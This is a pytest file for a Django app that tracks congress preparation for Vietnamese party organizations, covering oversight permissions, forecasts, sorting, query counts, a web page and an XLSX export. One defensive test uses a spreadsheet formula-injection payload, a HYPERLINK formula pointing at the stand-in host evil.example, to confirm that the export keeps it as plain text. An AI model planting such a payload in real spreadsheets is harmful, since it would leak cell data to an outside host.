"""Following from above (issue 22, flow 3): the city's office and standing committee see one
row per congress under the city, with its deadline, forecast, progress, documents and what
waits for them, counted only of what they may see (never the personnel subcommittee's work),
in a number of queries that does not grow with the congresses; everyone else gets a 404."""

import io
import re
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from congress import exports
from congress.models import Body, Organization, PlanItem, PlanTemplate
from tests.factories import BodyFactory, CongressFactory, OrganizationFactory, TaskFactory
from workflows.models import AuditEntry, Document, Task
from workflows.services.tasks import task_update

HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
TODAY = date(2025, 6, 2)  # a Monday
S = Task.Status
D = Document.Status


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(datetime.combine(TODAY, time(9), HANOI), tick=False):
        yield


def on(day: date, hour: int = 17) -> datetime:
    return datetime.combine(day, time(hour), HANOI)


@pytest.fixture
def review_item(db) -> PlanItem:
    """A plan item anchored on the superior-review deadline: the tasks made from it bound the
    forecast."""
    template = PlanTemplate.objects.create(name="Kế hoạch thử")
    return PlanItem.objects.create(
        template=template,
        key="submit",
        title="Trình cấp trên",
        body_kind=Body.Kind.DOCUMENTS,
        anchor="superior_review",
        offset_days=0,
    )


def entered_review(document: Document, at: datetime) -> None:
    AuditEntry.objects.create(
        content_type=ContentType.objects.get_for_model(Document),
        object_id=document.pk,
        congress=document.congress,
        body=document.body,
        transition="approve",
        from_state=D.STANDING_COMMITTEE_REVIEW,
        to_state=D.SUPERIOR_REVIEW,
        at=at,
    )


def document(congress, body, title, status, kind=Document.Kind.POLITICAL_REPORT) -> Document:
    return Document.objects.create(
        congress=congress, body=body, kind=kind, title=title, status=status
    )


@pytest.fixture
def followed(world, city, review_item):
    """Lê Chân (district, opens 18/09/2025: superior review by 15/07/2025, 31 working days
    from today): 4 tasks of the documents subcommittee (one done, one overdue, one cancelled,
    one of 40 working days tied to the superior review), the political report waiting for the
    city since 26/05/2025, the outline drafting; its personnel subcommittee has 3 tasks (one
    done, one overdue, one of 60 working days tied to the review) and the personnel plan
    waiting too. Hồng Bàng (district): 2 tasks, one done, no plan item. Dư Hàng Kênh, a ward
    under Lê Chân (opens 05/08/2025): one task of 2 working days tied to the review."""
    TaskFactory(body=world.docs, title="Đề cương", status=S.DONE, due_at=on(TODAY))
    TaskFactory(body=world.docs, title="Tổng hợp số liệu", due_at=on(date(2025, 5, 30)))
    TaskFactory(body=world.docs, title="Bỏ", status=S.CANCELLED, due_at=on(date(2025, 5, 1)))
    TaskFactory(
        body=world.docs,
        title="Hoàn thiện dự thảo Báo cáo chính trị",
        duration_days=40,
        plan_item=review_item,
        due_at=on(date(2025, 7, 15)),
    )
    report = document(world.congress, world.docs, "Báo cáo chính trị", D.SUPERIOR_REVIEW)
    entered_review(report, on(date(2025, 5, 26), 10))
    document(world.congress, world.docs, "Đề cương chi tiết", D.DRAFTING, Document.Kind.OUTLINE)
    secret = [
        TaskFactory(body=world.personnel, title="Rà soát hồ sơ", status=S.DONE),
        TaskFactory(body=world.personnel, title="Lấy phiếu", due_at=on(date(2025, 5, 28))),
        TaskFactory(
            body=world.personnel,
            title="Đề án nhân sự hoàn chỉnh",
            duration_days=60,
            plan_item=review_item,
            due_at=on(date(2025, 7, 15)),
        ),
    ]
    plan = document(
        world.congress, world.personnel, "Đề án nhân sự", D.SUPERIOR_REVIEW, "personnel_plan"
    )
    entered_review(plan, on(date(2025, 5, 20), 10))
    TaskFactory(body=city.sibling_docs, status=S.DONE, due_at=on(date(2025, 5, 20)))
    TaskFactory(body=city.sibling_docs, due_at=on(date(2025, 6, 20)))
    document(city.sibling, city.sibling_docs, "Báo cáo chính trị HB", D.APPROVED)
    ward = OrganizationFactory(
        name="Đảng bộ phường Dư Hàng Kênh", level=Organization.Level.WARD, parent=world.org
    )
    ward_congress = CongressFactory(organization=ward, number=1, opens_on=date(2025, 8, 5))
    ward_docs = BodyFactory(congress=ward_congress, kind=Body.Kind.DOCUMENTS, name="Văn kiện DHK")
    TaskFactory(
        body=ward_docs,
        title="Trình dự thảo",
        duration_days=2,
        plan_item=review_item,
        due_at=on(date(2025, 6, 20)),
    )
    return ward_congress, secret, plan


@pytest.fixture
def web():
    """`web(user)`: a test client with the user's session, as a browser has after login."""

    def make(user) -> Client:
        client = Client()
        client.force_login(user)
        return client

    return make


def rows(api, user, organization, query: str = "") -> list[dict]:
    response = api(user).get(f"/api/v1/organizations/{organization.pk}/oversight/{query}")
    assert response.status_code == 200, response.content[:300]
    return response.json()["results"]


def figures(row: dict) -> dict:
    """What the row says of a congress's preparation (its names and dates aside)."""
    keep = (
        "days_to_deadline",
        "forecast",
        "late_by",
        "slack_days",
        "forecast_finish",
        "driving_task",
        "tasks",
        "tasks_done",
        "done_share",
        "overdue_tasks",
        "documents_by_state",
        "waiting_for_superior",
    )
    return {key: row[key] for key in keep}


def test_the_citys_office_follows_every_congress_under_the_city_with_its_figures(
    api, world, city, followed
):
    ward_congress, _secret, _plan = followed
    found = rows(api, city.office, city.org)

    # In the order of their openings; the city's own congress is not among them.
    assert [r["congress"] for r in found] == [ward_congress.pk, world.congress.pk, city.sibling.pk]
    ward, le_chan, hong_bang = found
    assert (ward["organization_name"], ward["level"]) == ("Đảng bộ phường Dư Hàng Kênh", "ward")
    assert (le_chan["opens_on"], le_chan["superior_review_due"]) == ("2025-09-18", "2025-07-15")
    driver = Task.objects.get(title="Hoàn thiện dự thảo Báo cáo chính trị")
    report = Document.objects.get(title="Báo cáo chính trị")
    assert figures(le_chan) == {
        "days_to_deadline": 31,
        "forecast": "late",
        "late_by": 8,  # 40 working days from today: 25/07, 8 after 15/07
        "slack_days": -8,
        "forecast_finish": "2025-07-25",
        "driving_task": {"id": driver.pk, "title": driver.title},
        "tasks": 3,  # the cancelled one left out
        "tasks_done": 1,
        "done_share": pytest.approx(1 / 3),
        "overdue_tasks": 1,
        "documents_by_state": {"drafting": 1, "superior_review": 1},
        "waiting_for_superior": [
            {
                "id": report.pk,
                "title": "Báo cáo chính trị",
                "kind": "political_report",
                "since": "2025-05-26T10:00:00+07:00",
                "working_days": 5,
            }
        ],
    }
    assert (ward["superior_review_due"], ward["days_to_deadline"]) == ("2025-06-03", 1)
    assert (ward["forecast"], ward["late_by"], ward["slack_days"]) == ("on_time", 0, 0)
    assert (ward["tasks"], ward["tasks_done"], ward["done_share"]) == (1, 0, 0.0)
    assert figures(hong_bang) == {
        "days_to_deadline": 31,
        "forecast": "unknown",  # no task of its plan is tied to the deadline
        "late_by": None,
        "slack_days": None,
        "forecast_finish": None,
        "driving_task": None,
        "tasks": 2,
        "tasks_done": 1,
        "done_share": 0.5,
        "overdue_tasks": 0,
        "documents_by_state": {"approved": 1},
        "waiting_for_superior": [],
    }


def test_a_document_waits_since_it_last_entered_the_superior_review(api, world, city, followed):
    report = Document.objects.get(title="Báo cáo chính trị")
    entered_review(report, on(date(2025, 5, 12), 10))  # an earlier round, returned since
    entered_review(report, on(date(2025, 5, 29), 15))

    le_chan = rows(api, city.head, city.org)[1]

    assert le_chan["waiting_for_superior"][0]["since"] == "2025-05-29T15:00:00+07:00"
    assert le_chan["waiting_for_superior"][0]["working_days"] == 2


def test_the_superior_counts_the_same_with_or_without_the_personnel_work(
    api, world, city, followed
):
    _ward, secret, plan = followed
    readers = (city.office, city.head, city.member)
    before = {user.username: rows(api, user, city.org) for user in readers}
    everything = rows(api, world.staff, city.org)

    Task.objects.filter(pk__in=[t.pk for t in secret]).delete()
    Document.objects.filter(pk=plan.pk).delete()

    for user in readers:
        assert rows(api, user, city.org) == before[user.username]
    # The personnel work is in the figures of someone who may see it: the comparison means it.
    assert rows(api, world.staff, city.org) != everything
    assert everything[1]["late_by"] == 28 and everything[1]["tasks"] == 6


def test_only_the_superior_may_follow_the_congresses_under_it(api, web, world, city):
    for user in (
        city.sibling_head,
        world.sc_head,
        world.steering_head,
        world.docs_member,
        world.personnel_member,
        world.outsider,
        city.reviewer,
    ):
        path = f"/api/v1/organizations/{city.org.pk}/oversight/"
        assert api(user).get(path).status_code == 404, user.username
        assert api(user).get(path.rstrip("/") + ".xlsx").status_code == 404, user.username
        page = web(user).get(f"/oversight/?organization={city.org.pk}")
        assert page.status_code == 404, user.username
    for user in (city.office, city.head, city.member, world.staff):
        assert len(rows(api, user, city.org)) == 2, user.username
    # Lê Chân's standing committee follows the organizations under Lê Chân (none has a
    # congress here), not the city's.
    assert rows(api, world.sc_head, world.org) == []


def test_the_rows_sort_and_filter_as_asked(api, world, city, followed):
    ward, le_chan, hong_bang = followed[0].pk, world.congress.pk, city.sibling.pk

    def order(query: str) -> list[int]:
        return [r["congress"] for r in rows(api, city.office, city.org, query)]

    assert order("?ordering=-late_by") == [le_chan, ward, hong_bang]  # no forecast: last
    assert order("?ordering=late_by") == [ward, le_chan, hong_bang]
    assert order("?ordering=days_to_deadline") == [ward, le_chan, hong_bang]
    assert order("?ordering=-days_to_deadline") == [le_chan, hong_bang, ward]
    assert order("?ordering=-done_share") == [hong_bang, le_chan, ward]
    assert order("?ordering=-opening") == [le_chan, hong_bang, ward]
    assert order("?level=ward") == [ward]
    assert order("?level=district&level=ward") == [ward, le_chan, hong_bang]
    assert order("?late=true") == [le_chan]
    assert order("?late=false") == [ward, hong_bang]
    assert order("?status=preparing") == []
    assert order("?status=planning&ordering=-late_by&level=district") == [le_chan, hong_bang]
    page = api(city.office).get(f"/api/v1/organizations/{city.org.pk}/oversight/?page_size=2")
    assert page.json()["count"] == 3
    assert "page=2" in page.json()["next"]
    for wrong in ("?ordering=title", "?level=city", "?late=maybe", "?status=gone"):
        response = api(city.office).get(f"/api/v1/organizations/{city.org.pk}/oversight/{wrong}")
        assert response.status_code == 400, wrong


def add_congresses(city, review_item, count: int) -> None:
    """`count` more districts under the city, each with work of every kind the rows count."""
    for n in range(count):
        org = OrganizationFactory(
            name=f"Đảng bộ quận số {n}", level=Organization.Level.DISTRICT, parent=city.org
        )
        congress = CongressFactory(organization=org, number=25, opens_on=date(2025, 10, 1 + n))
        docs = BodyFactory(congress=congress, kind=Body.Kind.DOCUMENTS)
        personnel = BodyFactory(congress=congress, kind=Body.Kind.PERSONNEL)
        first = TaskFactory(body=docs, status=S.DONE)
        TaskFactory(body=docs, due_at=on(date(2025, 5, 2)), depends_on=[first])
        TaskFactory(body=docs, duration_days=30 + n, plan_item=review_item)
        TaskFactory(body=personnel, duration_days=50, plan_item=review_item)
        entered_review(document(congress, docs, f"Báo cáo {n}", D.SUPERIOR_REVIEW), on(TODAY, 8))
        document(congress, personnel, f"Đề án {n}", D.DRAFTING, "personnel_plan")


def queries(client, path: str) -> int:
    assert client.get(path).status_code == 200  # computes and keeps the new forecasts
    with CaptureQueriesContext(connection) as captured:
        assert client.get(path).status_code == 200
    return len(captured)


def test_the_queries_do_not_grow_with_the_congresses(api, web, world, city, review_item):
    add_congresses(city, review_item, 0)
    paths = [f"/api/v1/organizations/{city.org.pk}/oversight/", "/oversight/"]
    readers = [
        (api(city.office), paths[0]),
        (web(city.office), paths[1]),
        (api(city.head), paths[0]),
    ]
    TaskFactory(body=world.docs, plan_item=review_item, duration_days=3)
    few = [queries(client, path) for client, path in readers]

    add_congresses(city, review_item, 4)
    many = [queries(client, path) for client, path in readers]

    assert len(rows(api, city.office, city.org)) == 6
    assert many == few


def test_a_forecast_is_scheduled_again_only_when_its_plan_changes(api, world, city, followed):
    client = api(city.office)
    path = f"/api/v1/organizations/{city.org.pk}/oversight/"
    client.get(path)
    with CaptureQueriesContext(connection) as cached:
        client.get(path)
    # A schedule reads when each started task started (the audit log): a cached one does not.
    assert not [q for q in cached if "workflows_auditentry" in q["sql"] and "start" in q["sql"]]

    driver = Task.objects.get(title="Hoàn thiện dự thảo Báo cáo chính trị")
    task_update(actor=world.docs_head, task_id=driver.pk, duration_days=20)

    le_chan = rows(api, city.office, city.org)[1]
    assert (le_chan["forecast"], le_chan["slack_days"]) == ("on_time", 12)


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
VIETNAMESE_HEADS = [
    "Tổ chức đảng",
    "Cấp",
    "Đại hội",
    "Trạng thái",
    "Khai mạc ngày",
    "Hạn cấp trên cho ý kiến",
    "Số ngày làm việc đến hạn",
    "Dự báo",
    "Trễ (ngày làm việc)",
    "Việc quyết định dự báo",
    "Nhiệm vụ",
    "Hoàn thành",
    "Tỷ lệ hoàn thành",
    "Nhiệm vụ quá hạn",
    "Văn kiện theo trạng thái",
    "Văn kiện chờ cấp trên cho ý kiến",
]


def test_the_spreadsheet_is_in_vietnamese_and_holds_no_formula(api, world, city, followed):
    driver = Task.objects.get(title="Hoàn thiện dự thảo Báo cáo chính trị")
    Task.objects.filter(pk=driver.pk).update(title=HOSTILE)
    assert city.office.language == "en"  # the sheet is Vietnamese whoever downloads it

    response = api(city.office).get(
        f"/api/v1/organizations/{city.org.pk}/oversight.xlsx?ordering=-late_by"
    )

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in sheet[2]] == VIETNAMESE_HEADS
    le_chan = [cell.value for cell in sheet[3]]
    assert le_chan[:4] == [
        "Đảng bộ quận Lê Chân",
        "Đảng bộ quận/huyện",
        "Đại hội đại biểu Đảng bộ quận Lê Chân lần thứ XXV, nhiệm kỳ 2025-2030",
        "Lập kế hoạch",
    ]
    assert le_chan[4:14] == [
        datetime(2025, 9, 18),
        datetime(2025, 7, 15),
        31,
        "Trễ 8 ngày làm việc",
        8,
        HOSTILE,  # as text
        3,
        1,
        pytest.approx(1 / 3),
        1,
    ]
    assert le_chan[14:] == [
        "Đang soạn thảo: 1; Cấp trên cho ý kiến: 1",
        "Báo cáo chính trị (từ 26/05/2025, 5 ngày làm việc)",
    ]
    assert sheet.max_row == 5  # the title, the headings and the three congresses


def page_rows(html: str) -> list[str]:
    return re.findall(r'<tr data-congress="(\d+)" data-forecast="(\w+)"', html)


def test_the_page_shows_a_table_on_a_desk_and_a_card_per_congress_on_a_phone(
    web, world, city, followed
):
    ward = followed[0]
    response = web(city.office).get("/oversight/")

    assert response.status_code == 200
    html = response.content.decode()
    assert page_rows(html) == [
        (str(ward.pk), "on_time"),
        (str(world.congress.pk), "late"),
        (str(city.sibling.pk), "unknown"),
    ]
    assert "Late by 8 working days" in html
    assert "Hoàn thiện dự thảo Báo cáo chính trị" in html  # the task driving the forecast
    assert "since 26/05/2025, 5 working days" in html
    assert "Đề án nhân sự" not in html  # neither the plan nor the personnel task
    # On a phone every cell is a line of its congress's card, under its label.
    cells = re.findall(r"<td ([^>]*)>", html)
    assert cells and all("data-label=" in cell for cell in cells)
    css = (Path(settings.BASE_DIR) / "workflows/static/web/css/app.css").read_text()
    phone = css[css.index("/* Oversight") :]
    assert (
        "@media (max-width: 719px)" in phone
        and ".oversight-table thead { display: none; }" in phone
    )
    assert f'href="/api/v1/organizations/{city.org.pk}/oversight.xlsx"' in html
    assert 'href="/oversight/"' in html  # the navigation's link


def test_the_page_sorts_and_filters_by_its_address_and_exports_the_same(web, world, city, followed):
    client = web(city.head)
    html = client.get(
        f"/oversight/?organization={city.org.pk}&level=district&ordering=-late_by"
    ).content.decode()

    assert [pk for pk, _ in page_rows(html)] == [str(world.congress.pk), str(city.sibling.pk)]
    assert (
        f'href="/api/v1/organizations/{city.org.pk}/oversight.xlsx?level=district&amp;'
        'ordering=-late_by"'
    ) in html
    # The forecast's heading reverses the order it is sorted by; the others keep the filter.
    assert "level=district&amp;ordering=late_by" in html
    assert "level=district&amp;ordering=done_share" in html
    late = client.get("/oversight/?late=true").content.decode()
    assert [pk for pk, _ in page_rows(late)] == [str(world.congress.pk)]
    # A wrong value is left at its default; an organization one may not oversee is a 404.
    assert len(page_rows(client.get("/oversight/?level=city&ordering=x").content.decode())) == 3
    assert client.get(f"/oversight/?organization={world.org.pk}").status_code == 404
    assert client.get("/oversight/?organization=abc").status_code == 404


def test_the_navigation_offers_the_page_to_who_may_oversee(web, world, city, followed):
    for user in (city.office, city.head, city.member, world.staff):
        page = web(user).get(f"/congresses/{world.congress.pk}/").content.decode()
        assert 'href="/oversight/"' in page, user.username
    for user in (world.docs_member, world.personnel_member, city.sibling_head, city.reviewer):
        page = web(user).get("/tasks/").content.decode()
        assert 'href="/oversight/"' not in page, user.username
    # Lê Chân's leaders follow the ward under Lê Chân: the link is theirs too.
    assert 'href="/oversight/"' in web(world.sc_head).get("/tasks/").content.decode()
    html = web(world.sc_head).get("/oversight/").content.decode()
    assert [pk for pk, _ in page_rows(html)] == [str(followed[0].pk)]
